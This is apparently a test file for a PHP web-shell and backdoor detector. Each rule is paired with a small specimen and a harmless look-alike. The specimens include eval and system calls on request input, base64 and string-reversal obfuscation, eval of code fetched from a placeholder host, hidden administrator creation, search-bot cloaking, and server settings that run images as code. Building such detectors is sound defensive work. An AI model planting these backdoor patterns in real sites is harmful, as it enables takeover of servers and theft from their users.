// What is judged a backdoor and what is not: each rule with a specimen of our own that does nothing by itself, and a close
// relative that a shop may well hold.

import assert from "node:assert/strict";
import { test } from "node:test";
import fc from "fast-check";
import { weigh } from "./contract.ts";
import { judgeFile } from "./judge.ts";

const php = (code: string): string =>
  `<?php\nfunction dead() {\n${code}\n}\n${"// padding of a harmless kind\n".repeat(60)}`;
const rulesOf = (path: string, text: string): string[] => judgeFile(path, text).map(({ rule }) => rule);
const verdictOf = (path: string, text: string): string => weigh(judgeFile(path, text)).verdict;
const coded = (text: string): string => Buffer.from(text).toString("base64");

/** rule · what has it · what looks like it and has not. */
const PHP: readonly (readonly [string, string, string])[] = [
  ["php.eval-request", "eval($_POST['x']);", "echo htmlspecialchars($_POST['x']);"],
  [
    "php.eval-request",
    "$a = trim($_COOKIE['x']); $b = base64_decode($a); @eval($b);",
    "$a = trim($_COOKIE['x']); $b = (int) $a; echo $b;",
  ],
  [
    "php.eval-woven",
    `eval(base64_decode('${coded("echo 1;echo 2;echo 3;")}'));`,
    `echo base64_decode('${coded("echo 1;echo 2;echo 3;")}');`,
  ],
  [
    "php.decoded-shell",
    `eval(base64_decode('${coded("system($_GET['c']);")}'));`,
    `$t = base64_decode('${coded("the system works")}');`,
  ],
  [
    "php.eval-remote",
    "eval(file_get_contents('https://example.invalid/a.txt'));",
    "$t = file_get_contents('https://example.invalid/a.txt');",
  ],
  [
    "php.command-request",
    "$c = $_REQUEST['c']; echo shell_exec($c);",
    "$c = escapeshellarg($_REQUEST['c']); echo $c;",
  ],
  ["php.command-request", "echo `{$_GET['c']}`;", '$sql = "select `id` from `t`";'],
  ["php.include-request", "include $_GET['page'];", "include __DIR__ . '/page.php';"],
  ["php.include-picture", "include 'img/logo.png';", "include 'inc/logo.php';"],
  ["php.call-request", "$f = $_GET['f']; $f('x');", "$f = $_GET['f']; $this->show($f);"],
  ["php.call-request", "array_map($_POST['f'], [1]);", "array_map('trim', $_POST['f']);"],
  ["php.call-by-name", "call_user_func('assert', $_POST['x']);", "call_user_func('trim', $_POST['x']);"],
  ["php.hidden-name", "$f = 'as' . 'se' . 'rt'; $f($x);", "$f = 'as' . 'se' . 'ts'; $f($x);"],
  ["php.hidden-name", "$f = strrev('metsys'); $f('x');", "$f = strrev('desrever'); $f('x');"],
  [
    "php.hidden-name",
    "$f = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109); $f('x');",
    "$f = chr(65).chr(66); echo $f;",
  ],
  [
    "php.hidden-name",
    "$a = 'sxyxsxtxexm'; $f = str_replace('x', '', $a); $f('y');",
    "$f = str_replace('x', '', 'axb'); echo $f;",
  ],
  ["php.hidden-name", '$f = "\\x73\\x79\\x73\\x74\\x65\\x6d"; $f("x");', '$f = "\\x41\\x42"; echo $f;'],
  ["php.hidden-input", "$n = '_' . 'POST'; echo ${$n}['x'];", "$n = 'title'; echo ${$n};"],
  ["php.replace-runs", "preg_replace('/.*/e', $_POST['x'], 'a');", "preg_replace('/e/', $_POST['x'], 'a');"],
  ["php.write-anything", "file_put_contents($_POST['f'], $_POST['c']);", "file_put_contents($file, $html);"],
  [
    "php.write-code",
    "file_put_contents('a.php', $_POST['c']);",
    "file_put_contents('a.json', json_encode($html));",
  ],
  [
    "php.upload-script",
    "move_uploaded_file($_FILES['a']['tmp_name'], 'a.php');",
    "move_uploaded_file($_FILES['a']['tmp_name'], $safe);",
  ],
  ["php.unserialize", "unserialize($_COOKIE['x']);", "unserialize($row['x']);"],
  ["php.comment-trick", "system/*x*/($a);", "/* x */ trim($a);"],
  [
    "php.many-commands",
    "exec($a); system($a); passthru($a); shell_exec($a);",
    "exec($a); exec($b); exec($c); exec($d);",
  ],
  ["php.sql-request", "mysqli_query($_POST['q']);", "mysqli_query('select 1 from t where a = ' . $id);"],
  ["php.jumps", "goto a; ".repeat(20), "goto a; a: echo 1;"],
];

test("each rule of PHP is met by its specimen and not by its close relative", () => {
  for (const [rule, bad, good] of PHP) {
    assert.ok(rulesOf("shop/a.php", php(bad)).includes(rule), `${rule} misses: ${bad}`);
    assert.ok(!rulesOf("shop/a.php", php(good)).includes(rule), `${rule} is met by: ${good}`);
    assert.equal(verdictOf("shop/a.php", php(good)), "clean", good);
  }
});

/** Whole-file habits: rule · a small page that has it · its harmless relative. */
const HABITS: readonly (readonly [string, string, string])[] = [
  [
    "php.locked",
    "if (md5($_GET['p']) == '5f4dcc3b5aa765d61d8327deb882cf99') { show(); }",
    "if (md5($_GET['p']) == $row['hash']) { show(); }",
  ],
  [
    "php.cloak",
    "if (preg_match('/googlebot/i', $_SERVER['HTTP_USER_AGENT'])) { echo file_get_contents('http://example.invalid/a'); }",
    "if (preg_match('/googlebot/i', $_SERVER['HTTP_USER_AGENT'])) { echo 'welcome'; }",
  ],
  [
    "php.makes-admin",
    "if (isset($_GET['u'])) { wp_create_user($_GET['u'], $_GET['p']); $u->set_role('administrator'); }",
    "wp_create_user($name, $secret);",
  ],
  ["php.reversed", "$a = ';)]x[TSOP_$(lave';", "$a = 'level';"],
  [
    "php.mass-mail",
    "set_time_limit(0); foreach (explode(\"\\n\", $_POST['list']) as $to) { mail($to, 'a', 'b'); }",
    "mail($shop, 'a', $_POST['message']);",
  ],
  [
    "php.unset-request",
    "unlink($gone); rmdir($folder); $h = fopen($file, 'w'); fputs($h, $text);",
    "$gone = tempnam('/tmp', 'a'); unlink($gone); $h = fopen('a.log', 'w'); fputs($h, 'x');",
  ],
  [
    "php.coded-program",
    `$later = '${coded("<?php /* a long enough text to be noticed as such */ eval($_POST['x']); ?>")}';`,
    `$later = '${coded("<?php /* a long enough text to be noticed as such */ echo 'hello'; ?>")}';`,
  ],
  [
    "php.name-table",
    `$t = [${["str_replace", "setcookie", "unserialize", "file_exists"].map((name) => `base64_decode('${coded(name)}')`).join()}];`,
    "$t = ['str_replace', 'setcookie', 'unserialize', 'file_exists'];",
  ],
  [
    "php.database-console",
    "mysql_connect($h); mysql_list_dbs(); mysql_list_tables($d); echo '<form>';",
    "mysqli_connect($h); mysqli_query($c, 'show tables');",
  ],
];

test("each habit of backdoors is met by its specimen and not by its harmless relative", () => {
  for (const [rule, bad, good] of HABITS) {
    assert.ok(rulesOf("shop/a.php", `<?php ${bad}`).includes(rule), `${rule} misses: ${bad}`);
    assert.ok(!rulesOf("shop/a.php", `<?php ${good}`).includes(rule), `${rule} is met by: ${good}`);
  }
});

test("what is weak in a long file is suspicious in one of a few lines", () => {
  const line = "<?php $page = $_GET['page']; include($page);";
  assert.equal(verdictOf("a.php", line), "suspicious");
  assert.equal(verdictOf("a.php", `${line}\n${"// part of a large program\n".repeat(100)}`), "clean");
});

test("keys of lists, functions written in place, extracted variables and code left behind by eval are followed", () => {
  const ways = [
    "$i['w'] = 'assert'; $a[] = $i; $a[0]['w']($_POST['x']);",
    "(function ($c) { $m = 'sysXtem'; (substr($m, 0, 3) . substr($m, 4))($_GET['c']); })(1);",
    "extract($_REQUEST); eval($code);",
    `eval('$x = base64_decode("${coded("system($_GET['c']);")}");'); eval($x);`,
  ];
  for (const way of ways) assert.equal(verdictOf("a.php", `<?php ${way}`), "malicious", way);
});

test("a template that is evaluated with fixed text in front is no backdoor", () => {
  const check = `<?php class Check { function one($value) { $ok = eval("return " . $value . ";"); eval($ok); } }
    $c = new Check(); $c->one($_POST['rule']);\n${"// padding\n".repeat(200)}`;
  assert.equal(verdictOf("data/class/Check.php", check), "clean");
});

test("what a visitor sends is followed through functions, properties and lists of the file", () => {
  const ways = [
    "function run($c) { return eval($c); } run($_POST['x']);",
    "class A { public $p; function __construct($p) { $this->p = $p; } function go() { eval($this->p); } } $a = new A($_POST['x']); $a->go();",
    "foreach ($_POST as $k => $v) { eval($v); }",
    "$list = ['a' => $_POST['x']]; eval($list['a']);",
    "usort(...$_GET);",
  ];
  for (const way of ways) assert.equal(verdictOf("a.php", `<?php ${way}`), "malicious", way);
});

test("layers of decoding are opened one by one", () => {
  let code = "system($_GET['c']);";
  for (let layer = 0; layer < 6; layer++) code = `eval(base64_decode('${coded(code)}'));`;
  assert.ok(rulesOf("a.php", php(code)).includes("php.decoded-shell"));
});

test("Japanese in any writing is never taken for noise", () => {
  const text = "お客さまのご注文を承りました。配送先の住所と電話番号をお確かめください。".repeat(40);
  const utf8 = Buffer.from(
    `<?php\n// ${text}\n$商品名 = '${text}';\n$価格 = 1; $数量 = 2; $合計 = $価格 * $数量;\n`,
  );
  const sjis = Buffer.concat([
    Buffer.from("<?php\n$a = '"),
    Buffer.from("83678358836782cd".repeat(200), "hex"),
    Buffer.from("';\n"),
  ]);
  const euc = Buffer.concat([
    Buffer.from("<?php\n$a = '"),
    Buffer.from("a4b3a4f3a4cb".repeat(200), "hex"),
    Buffer.from("';\n"),
  ]);
  for (const bytes of [utf8, sjis, euc]) assert.equal(verdictOf("a.php", bytes.toString("latin1")), "clean");
});

test("code in a picture is told, a picture with chance bytes is not", () => {
  assert.equal(verdictOf("a.jpg", "\u00ff\u00d8\u00ff\u00e0JFIF<?php eval($_POST['x']);"), "malicious");
  assert.equal(verdictOf("a.jpg", "\u00ff\u00d8\u00ff\u00e0JFIF<?=\u0001\u00fe`<?\u0002$"), "clean");
});

test("server settings that run pictures or put a file before every page are told", () => {
  assert.equal(verdictOf("img/.htaccess", "AddType application/x-httpd-php .jpg\n"), "suspicious");
  assert.equal(
    verdictOf(".htaccess", "AddType application/x-httpd-php .php\nAddType image/webp .webp\n"),
    "clean",
  );
  assert.equal(verdictOf(".user.ini", "auto_prepend_file=/tmp/a.jpg\n"), "suspicious");
  assert.equal(verdictOf(".user.ini", "auto_prepend_file = none\nupload_max_filesize = 10M\n"), "clean");
  assert.equal(verdictOf(".htaccess", "# auto_prepend_file /tmp/a.php\n"), "clean");
});

test("JSP, ASP and CGI that run what a visitor sends are told, their harmless relatives are not", () => {
  assert.equal(
    verdictOf("a.jsp", '<% Runtime.getRuntime().exec(request.getParameter("c")); %>'),
    "malicious",
  );
  assert.equal(verdictOf("a.jsp", '<%= request.getParameter("q").length() %>'), "clean");
  assert.equal(verdictOf("a.asp", '<% eval request("x") %>'), "malicious");
  assert.equal(verdictOf("a.asp", '<% Response.Write Server.HTMLEncode(Request("x")) %>'), "clean");
  assert.equal(
    verdictOf("a.cgi", "#!/usr/bin/perl\nuse CGI; my $c = param('c'); system($c);\n"),
    "malicious",
  );
  assert.equal(
    verdictOf("a.cgi", "#!/usr/bin/perl\nuse CGI; my $c = param('c'); print length($c);\n"),
    "clean",
  );
  assert.equal(verdictOf("build.sh", "#!/bin/sh\nfor f in *; do X=`basename $f`; done\n"), "clean");
});

test("a script in a folder for uploads is told", () => {
  assert.equal(verdictOf("wp-content/uploads/2026/a.php", "<?php echo 1;"), "suspicious");
  assert.equal(verdictOf("wp-content/uploads/index.php", "<?php // silence"), "clean");
});

test("any bytes get a verdict, and the same one again", () => {
  const pieces = fc.constantFrom(
    "<?php ",
    "$a",
    "(",
    ")",
    "[",
    "{",
    "}",
    "'",
    '"',
    "<<<E\n",
    ";",
    "eval",
    "function f",
    "`",
    "?>",
    "${",
    ".",
    "=",
    "\u0000",
    "\u00e3",
    "/*",
    "fn",
    "new ",
    "::",
  );
  fc.assert(
    fc.property(fc.array(fc.oneof(pieces, fc.string({ maxLength: 4 })), { maxLength: 60 }), (parts) => {
      const text = `<?php ${parts.join("")}`;
      assert.deepEqual(judgeFile("a.php", text), judgeFile("a.php", text));
    }),
    { numRuns: 400 },
  );
});

test("deep nesting and bombs end within the effort", () => {
  assert.ok(Array.isArray(judgeFile("a.php", `<?php ${"(".repeat(50_000)}`)));
  assert.ok(Array.isArray(judgeFile("a.php", `<?php ${"[".repeat(50_000)}`)));
  assert.ok(
    Array.isArray(
      judgeFile("a.php", `<?php ${"$a=str_repeat('aaaaaaaaaaaaaaaa',4000);$b=$a.$a.$a;".repeat(500)}`),
    ),
  );
});
